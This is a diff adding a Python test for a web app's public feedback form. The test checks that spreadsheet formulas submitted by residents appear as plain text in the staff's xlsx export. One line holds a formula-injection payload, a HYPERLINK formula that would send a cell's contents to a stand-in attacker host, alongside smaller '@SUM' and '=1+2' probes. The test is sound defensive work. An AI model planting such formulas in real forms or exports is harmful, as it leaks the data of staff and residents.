@@ -432,3 +432,18 @@ def test_a_logged_in_user_sees_the_same_public_page(cast: Any, station: Station)
     assert reverse("org-tree") not in page and "Log out" not in page  # no staff navigation
     assert send(client, station.roads).status_code == 302
     assert Opinion.objects.get().channel == "web"
+
+
+# --- what the public writes, in the staff's export --------------------------------------------------------
+
+def test_a_formula_sent_by_the_public_form_is_text_in_the_staff_export(cast: Any, station: Station) -> None:
+    from grassroots.ui.testing import client_as
+    from grassroots.ui.tests.test_xlsx import assert_text_cells
+
+    evil = '=HYPERLINK("http://evil.example/?d="&G2,"点这里")'
+    response = send(browser(), station.roads, text=evil, address="@SUM(1+1)", name="=1+2", phone=PHONE)
+    assert response.status_code == 302
+    assert Opinion.objects.get().text == evil  # kept as the resident wrote it
+    export = client_as(cast, "street_admin").get(reverse("opinion-list", args=["S"]), {"format": "xlsx"})
+    assert export.status_code == 200
+    assert_text_cells(export.content, [evil, "@SUM(1+1)"])
